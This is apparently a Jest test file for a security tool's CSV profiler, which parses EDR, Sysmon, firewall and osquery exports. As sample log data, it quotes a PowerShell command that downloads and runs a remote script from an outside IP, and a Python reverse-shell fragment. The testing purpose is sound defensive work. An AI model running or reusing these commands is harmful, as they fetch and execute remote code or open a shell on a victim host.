import { createReadStream, statSync } from "node:fs";
import { join } from "node:path";
import { Readable } from "node:stream";
import { CsvReader } from "../../../../../src/modules/ingest/csv/csv-reader";
import { DatasetProfiler, type DatasetProfile } from "../../../../../src/modules/ingest/profile/profiler";
import { FIXTURE_PROFILES, NETSTAT_ROW_4, type ProfiledFixture, RAGGED_FIREWALL_ROW_2 } from "../../../../support/fixture-profiles";
import { type DatasetRow, profiledRows } from "../../../../support/rows";

const FIXTURES = join(__dirname, "../../../../fixtures");

async function profileOf(reader: CsvReader): Promise<{ profile: DatasetProfile; rows: DatasetRow[] }> {
  const profiler = new DatasetProfiler(reader);
  const rows: DatasetRow[] = [];
  for await (const row of profiledRows(profiler)) rows.push(row);
  return { profile: profiler.profile(), rows };
}

const profileFixture = (name: string) => profileOf(new CsvReader(createReadStream(join(FIXTURES, name)), name));
const profileText = (text: string) => profileOf(new CsvReader(Readable.from([Buffer.from(text)]), "test.csv"));
const sizeOf = (name: string) => statSync(join(FIXTURES, name)).size;
/** The hand-checked profile of a fixture, with the file's size on disk. */
const expectedProfile = (name: ProfiledFixture) => ({ ...FIXTURE_PROFILES[name], fileSizeBytes: sizeOf(name) });

describe("DatasetProfiler on exports", () => {
  it("profiles a Velociraptor netstat export (comma, UTF-8)", async () => {
    const { profile, rows } = await profileFixture("velociraptor-netstat.csv");
    expect(profile).toEqual(expectedProfile("velociraptor-netstat.csv"));
    expect(rows[4]).toEqual({ rowIndex: 4, ...NETSTAT_ROW_4, timestamp: new Date("2024-03-12T09:21:55Z") });
  });

  it("profiles a Sysmon export written by PowerShell (UTF-16 LE with BOM, CRLF, every field quoted)", async () => {
    const { profile, rows } = await profileFixture("sysmon-utf16le.csv");
    expect(profile).toEqual(expectedProfile("sysmon-utf16le.csv"));
    expect(rows[2].data.CommandLine).toBe('"C:\\Windows\\System32\\cmd.exe" /c whoami /all');
    expect(rows[3].data.User).toBe("NT AUTHORITY\\SYSTEM");
    expect(rows[2].timestamp).toBeNull();
  });

  it("profiles a European Excel proxy log (semicolon, UTF-8 with BOM, CRLF)", async () => {
    const { profile, rows } = await profileFixture("proxy-semicolon.csv");
    expect(profile).toEqual(expectedProfile("proxy-semicolon.csv"));
    expect(Object.keys(rows[0].data)[0]).toBe("Time"); // the BOM is not part of the first name
    expect(rows[0].data.Duration).toBe("0,21");
  });

  it("profiles an EDR process export with quoted multi-line command lines", async () => {
    const { profile, rows } = await profileFixture("edr-process-multiline.csv");
    expect(profile).toEqual(expectedProfile("edr-process-multiline.csv"));
    expect(rows[1].normalized.parent_command_line).toBe(
      "powershell.exe -NoProfile -Command \"$c = New-Object Net.WebClient\n$c.DownloadString('http://185.220.101.34:8443/a.ps1') | IEX\"",
    );
    expect(rows.map((row) => row.timestamp)).toEqual([
      new Date("2024-03-12T09:21:50.412Z"),
      new Date("2024-03-12T09:22:03.880Z"),
      new Date("2024-03-12T09:30:12Z"),
      new Date("2024-03-12T10:02:47.500Z"),
    ]);
  });

  it("profiles a ragged firewall log, keeping extra cells and padding short rows", async () => {
    const { profile, rows } = await profileFixture("ragged-firewall.csv");
    expect(profile).toEqual(expectedProfile("ragged-firewall.csv"));
    expect(rows[2].data).toEqual(RAGGED_FIREWALL_ROW_2);
    expect(rows[3].normalized).toEqual({
      timestamp: "2024-03-12T09:22:11Z",
      src_ip: "10.20.30.57",
      dst_ip: "",
      dst_port: "",
      event_type: "",
      description: "",
    });
    expect(Object.keys(rows[4].data)).toEqual(["timestamp", "src_ip", "dst_ip", "dst_port", "action", "message", "extra_1"]);
    expect(rows.map((row) => row.rowIndex)).toEqual([0, 1, 2, 3, 4, 5]);
  });

  it("profiles a French Windows-1252 logon export", async () => {
    const { profile, rows } = await profileFixture("logons-cp1252.csv");
    expect(profile).toEqual(expectedProfile("logons-cp1252.csv"));
    expect(rows[0].data.AccountName).toBe("françois.dupré");
    expect(rows[0].data.Description).toBe("Ouverture de session réussie – réseau");
    expect(rows[2].data).toMatchObject({ AccountName: "jürgen.müller", Résultat: "Échec" });
    expect(rows[2].data.Description).toBe("Échec d’ouverture de session : mot de passe incorrect");
  });

  it("profiles an osquery process list (tab-delimited)", async () => {
    const { profile, rows } = await profileFixture("osquery-processes.tsv");
    expect(profile).toEqual(expectedProfile("osquery-processes.tsv"));
    expect(rows[4].data.cmdline).toBe(
      "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('185.220.101.34',4444))",
    );
  });
});

describe("DatasetProfiler", () => {
  const lines = (count: number, line: (i: number) => string) => Array.from({ length: count }, (_, i) => line(i)).join("");

  it("types columns on the first 100 rows only, and yields every row in order", async () => {
    const text = "id,value\n" + lines(100, (i) => `${i},word\n`) + lines(150, (i) => `${100 + i},10.0.0.${i}\n`);
    const { profile, rows } = await profileText(text);
    expect(profile.columnSchema).toEqual({ id: "integer", value: "string" });
    expect(profile.iocColumns).toEqual({});
    expect(profile.rowCount).toBe(250);
    expect(rows.map((row) => row.rowIndex)).toEqual(Array.from({ length: 250 }, (_, i) => i));
    expect(rows[249].data).toEqual({ id: "249", value: "10.0.0.149" });
  });

  it("types extra columns that appear within the first 100 rows like any other", async () => {
    const text = "timestamp,src_ip\n" + "2024-03-12 09:00:00,10.0.0.1,185.220.101.34\n" + lines(20, () => "2024-03-12 09:00:01,10.0.0.2\n");
    const { profile } = await profileText(text);
    expect(profile.columnSchema.extra_1).toBe("ip");
    expect(profile.normalizedColumns.extra_1).toBe("extra_1");
    expect(profile.iocColumns).toEqual({ src_ip: "ip", extra_1: "ip" });
  });

  it("makes extra columns that appear after the first 100 rows strings, named in snake_case, never IOC columns", async () => {
    const text =
      "timestamp,src_ip,Extra 1\n" +
      lines(100, (i) => `2024-03-12 09:00:${String(i % 60).padStart(2, "0")},10.0.0.${i},note\n`) +
      "2024-03-12 10:00:00,10.0.0.200,note,185.220.101.34,evil.com\n" +
      "2024-03-12 10:00:01,10.0.0.201,note\n";
    const { profile, rows } = await profileText(text);
    expect(profile.columnSchema).toEqual({
      timestamp: "timestamp",
      src_ip: "ip",
      "Extra 1": "string",
      extra_1: "string",
      extra_2: "string",
    });
    // "Extra 1" took extra_1 as its snake_case name, so the generated column extra_1 gets extra_1_2.
    expect(profile.normalizedColumns).toEqual({
      timestamp: "timestamp",
      src_ip: "src_ip",
      "Extra 1": "extra_1",
      extra_1: "extra_1_2",
      extra_2: "extra_2",
    });
    expect(profile.iocColumns).toEqual({ src_ip: "ip" });
    expect([profile.rowCount, profile.extendedRows, profile.paddedRows]).toEqual([102, 1, 0]);
    expect(rows[100].normalized).toEqual({
      timestamp: "2024-03-12 10:00:00",
      src_ip: "10.0.0.200",
      extra_1: "note",
      extra_1_2: "185.220.101.34",
      extra_2: "evil.com",
    });
    expect(profile.timeRangeEnd).toEqual(new Date("2024-03-12T10:00:01Z"));
  });

  it("exposes the IOC columns and canonical names from the first row on", async () => {
    expect.assertions(3);
    const profiler = new DatasetProfiler(new CsvReader(Readable.from([Buffer.from("Fqdn,ip\nws1.corp.example.com,10.0.0.1\n")]), "a.csv"));
    for await (const row of profiledRows(profiler)) {
      expect(row.rowIndex).toBe(0);
      expect(profiler.iocColumnsSoFar).toEqual({ Fqdn: "hostname", ip: "ip" });
      expect(profiler.normalizedColumnsSoFar).toEqual({ Fqdn: "hostname", ip: "ip_address" });
    }
  });

  it("keeps a column named __proto__ as data", async () => {
    const { profile, rows } = await profileText("__proto__,constructor\n10.0.0.1,x\n");
    expect(JSON.stringify(rows[0].data)).toBe('{"__proto__":"10.0.0.1","constructor":"x"}');
    expect(JSON.stringify(profile.columnSchema)).toBe('{"__proto__":"ip","constructor":"string"}');
    expect(JSON.stringify(profile.normalizedColumns)).toBe('{"__proto__":"proto","constructor":"constructor"}');
    expect(JSON.stringify(profile.iocColumns)).toBe('{"__proto__":"ip"}');
  });

  it("refuses to give a profile before the rows have been read", () => {
    const profiler = new DatasetProfiler(new CsvReader(Readable.from([Buffer.from("a\n1\n")]), "a.csv"));
    expect(() => profiler.profile()).toThrow("before batches() was read to the end");
  });

  it("passes reader errors on", async () => {
    await expect(profileFixture("header-only.csv")).rejects.toThrow("header-only.csv line 1: header row but no data rows");
  });
});
